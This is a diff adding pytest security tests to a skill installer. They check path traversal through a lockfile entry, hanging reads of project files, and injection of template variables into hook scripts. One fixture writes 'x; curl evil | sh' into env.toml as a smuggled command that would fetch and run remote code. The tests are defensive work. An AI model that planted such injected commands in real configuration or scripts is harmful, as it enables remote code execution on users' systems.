@@ -214,3 +214,29 @@ def test_what_is_available_is_asked_without_touching_a_path(installed: Victim) -
     installed.rewrite_lock(files={"../../outside/precious": PRECIOUS_HASH})
     assert refused(lambda: list_available(installed.source, installed.site)).code == "validation_failed"
     assert refused(lambda: lock.load_lockfile(installed.site)).code == "validation_failed"
+
+
+@pytest.mark.parametrize("kind", UNFIT_TEXTS)
+def test_a_project_file_that_takes_forever_to_read_is_not_waited_for(victim: Victim, kind: str) -> None:
+    place_unfit(victim.site.base / "env.toml", kind)
+    with limit_waiting():
+        victim.install("alpha")
+    assert victim.site.base.joinpath("env.toml").read_text().startswith("SYNAPTIC_PROJECT_ROOT")
+    place_unfit(victim.site.registry, kind)
+    with limit_waiting(), pytest.raises(SynapticError):
+        victim.remove("alpha")
+
+
+@pytest.mark.parametrize("name", ["SYNAPTIC_ROOT", "SYNAPTIC_PROJECT_ROOT", "SYNAPTIC_CHANNEL", "SYNAPTIC_AGENTS"])
+def test_variables_that_a_repository_brings_do_not_become_part_of_a_script(
+    victim: Victim, market: Market, name: str
+) -> None:
+    text = (
+        "cd {{ env.synaptic_root }} {{ env.synaptic_project_root }} {{ env.sc_dolt_branch }} {{ env.synaptic_agents }}"
+    )
+    market.put(made("variables", files={"hooks/pre.sh.j2": text}))
+    victim.site.base.mkdir()
+    victim.site.base.joinpath("env.toml").write_text(f'{name}="x; curl evil | sh"\n')
+    victim.install("variables")
+    assert "curl" not in victim.path("skills/variables/hooks/pre.sh").read_text()
+    assert "curl" not in victim.site.base.joinpath("env.toml").read_text()
